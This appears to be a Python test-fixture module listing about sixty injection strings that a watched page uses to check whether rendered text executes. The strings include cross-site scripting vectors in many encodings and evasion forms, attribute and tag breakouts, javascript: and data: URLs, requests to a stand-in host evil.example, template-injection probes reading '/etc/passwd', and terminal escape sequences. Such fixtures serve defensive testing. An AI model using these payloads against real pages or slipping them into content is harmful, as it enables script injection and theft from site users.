"""Sixty texts that would do something if a page took them for more than text.

What they try is one of three things, and each is noticed by `watched_page`: set `window.hacked`, open a dialog, or
ask `evil.example` for something. Bare handlers and addresses of other schemes are among them, for texts that a page
puts between quotes; so are control characters, which steer a terminal or turn a line around.
"""

PAYLOADS = (
    # Scripts, in many spellings.
    "<script>window.hacked=1</script>",
    "<SCRIPT SRC=http://evil.example/a.js></SCRIPT>",
    "<script/x>window.hacked=1</script\t>",
    "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "<<script>alert('hacked')//<</script>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#60;script&#62;window.hacked=1&#60;/script&#62;",
    "%3Cscript%3Ewindow.hacked%3D1%3C%2Fscript%3E",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "\uff1cscript\uff1ewindow.hacked=1\uff1c/script\uff1e",
    "+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
    '<script type="module">import "http://evil.example/m.js"</script>',
    '<link rel=modulepreload href="http://evil.example/p.js"><script type=importmap>{"imports":{}}</script>',
    # The ends of what a page may have put around them.
    "</script><script>window.hacked=1</script>",
    "</textarea></script></style></title><img src=x onerror=window.hacked=1>",
    "--><img src=x onerror=window.hacked=1><!--",
    "]]><script>window.hacked=1</script>",
    "</template></noscript></iframe></select><img src=x onerror=window.hacked=1>",
    "</code></pre></div></td></tr></table></details><img src=x onerror=window.hacked=1>",
    '"><img src=x onerror=window.hacked=1>',
    "'><svg/onload=window.hacked=1>",
    '" autofocus onfocus="window.hacked=1" x="',
    "' onmouseover='window.hacked=1' style='position:fixed;inset:0' x='",
    "` onpointerenter=`window.hacked=1",
    "\";window.hacked=1;//';window.hacked=1;//",
    "${window.hacked=1}`+(window.hacked=1)+`",
    '{"text":"</script><script>window.hacked=1</script>"}',
    # Elements that ask for something or run something by themselves.
    "<img src=x onerror=window.hacked=1>",
    '<img src="http://evil.example/pixel.png" width=1 height=1>',
    "<img srcset=http://evil.example/a.png\u00a02x src=data:,>",
    "<svg onload=window.hacked=1><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>",
    '<svg><use href="http://evil.example/s.svg#x"/><image href="http://evil.example/i.png"/></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>parent.hacked=1</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hacked=1&gt;'>",
    '<math href="javascript:window.hacked=1">CLICK</math>',
    '<iframe src="javascript:parent.hacked=1"></iframe>',
    '<iframe src="http://evil.example/frame"></iframe>',
    "<object data='data:text/html,<script>window.hacked=1</script>'></object><embed src=http://evil.example/e.swf>",
    "<video poster=http://evil.example/v.png><source onerror=window.hacked=1></video><audio src=x onerror=hacked=1>",
    "<details open ontoggle=window.hacked=1><summary>more</summary></details>",
    "<body onload=window.hacked=1 onpageshow=window.hacked=1 background=http://evil.example/b.png>",
    "<input autofocus onfocus=window.hacked=1><select autofocus onfocus=window.hacked=1>",
    '<form id=f action="http://evil.example/f"><button autofocus>Go</button></form><button form=f>Go</button>',
    "<dialog open><form method=dialog><button formaction=javascript:hacked=1>OK</button></form></dialog>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/away">',
    "<meta http-equiv='Content-Security-Policy' content=\"script-src 'unsafe-inline'\">",
    '<base href="http://evil.example/">',
    "<marquee onstart=window.hacked=1>away</marquee><x onclick=window.hacked=1 tabindex=1 id=x>x</x>",
    "<style>@import 'http://evil.example/s.css'; body{display:none}</style>",
    "<div style=\"background:url(http://evil.example/b.png);position:fixed;inset:0\">over everything</div>",
    "}</style><style>*{background:url('http://evil.example/c.png')}",
    # Links, written and drawn.
    '<a href="javascript:window.hacked=1" autofocus>a link</a>',
    "[a link](javascript:window.hacked=1) ![an image](http://evil.example/m.png)",
    "![x](x\"onerror=\"window.hacked=1) [x]: http://evil.example <http://evil.example>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cub3BlbmVyLmhhY2tlZD0xPC9zY3JpcHQ+",
    # Templates of other languages.
    "{{7*7}} {% include '/etc/passwd' %} {{ ''.__class__.__mro__ }} <%= 7*7 %> #{7*7} {{constructor('a')()}}",
    # Characters that are no text.
    "\x1b]8;;http://evil.example\x1b\\a link\x1b]8;;\x1b\\ \x1b[2J\x1b[31mred\x1b[0m \x1b]0;owned\x07",
    "\u202e<gpj.1=dekcah.wodniw=rorreno x=crs gmi>\u2066\u200f turned around",
    "<img\x00 src=x\x00 onerror\x00=window.hacked=1>\x0c\x08\x7f\x9b2J",
    "line\u2028window.hacked=1\u2029separators <img/src=x\u2028onerror=window.hacked=1> unclosed \"'` <a href=\"",
)  # fmt: skip
